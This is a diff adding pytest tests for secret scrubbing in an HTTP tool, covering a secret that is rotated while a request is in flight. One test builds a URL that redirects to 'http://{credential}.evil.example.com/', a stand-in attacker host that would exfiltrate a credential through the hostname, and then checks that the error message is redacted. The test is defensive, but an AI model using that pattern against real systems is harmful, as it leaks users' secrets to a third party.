@@ -15,6 +15,7 @@ import ssl
 import tempfile
 from collections.abc import Iterator, Sequence
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 from cryptography import x509
@@ -195,6 +196,44 @@ def test_a_new_secret_is_sent_and_scrubbed_on_the_next_call(caller, server):
     first, second = server.seen
     assert second.headers["authorization"] == f"Bearer {SECOND}"
     assert second.peer != first.peer  # the old secret's socket is not the new one's
+
+
+def rotate_while_the_tool_waits(server: LocalServer, connection: Connection) -> None:
+    """The server, once it has the request, rotates the connection's secret before it answers."""
+
+    def rotate() -> None:
+        server.on_request = None
+        row = Connection.objects.get(pk=connection.pk)
+        row.set_secret(token=SECOND)
+        row.save()
+        database.close()  # the server thread's own database connection
+
+    server.on_request = rotate
+
+
+def test_a_secret_rotated_while_the_tool_runs_is_still_scrubbed_as_sent(caller, server):
+    """Step 10b scrubs the secret the bound capability sent, not the one stored by then."""
+    connection = connect(caller, FIRST)
+    ok_result(call(caller, connection, f"{server.base}/ok"))  # the first secret is cached
+    rotate_while_the_tool_waits(server, connection)
+    echoed = ok_result(call(caller, connection, f"{server.base}/echo"))["body"]
+    assert server.seen[-1].headers["authorization"] == f"Bearer {FIRST}"  # the old one went
+    assert json.loads(echoed)["headers"]["Authorization"] == f"Bearer {REDACTED}"
+    assert FIRST not in echoed
+    connection.refresh_from_db()
+    assert connection.read_secret() == {"token": SECOND}  # the rotation did happen first
+    echoed = ok_result(call(caller, connection, f"{server.base}/echo"))["body"]
+    assert server.seen[-1].headers["authorization"] == f"Bearer {SECOND}"
+    assert SECOND not in echoed and REDACTED in echoed
+
+
+def test_an_error_quoting_a_secret_rotated_meanwhile_is_scrubbed_as_sent(caller, server):
+    connection = connect(caller, FIRST)
+    rotate_while_the_tool_waits(server, connection)
+    target = f"{server.base}/reflect?to=" + quote("http://{credential}.evil.example.com/", safe="")
+    code, message = failure(call(caller, connection, target))
+    assert code == "execution"
+    assert FIRST.lower() not in message.lower() and REDACTED in message
 
 
 def test_a_secret_is_decrypted_once_per_version(caller, server, monkeypatch):
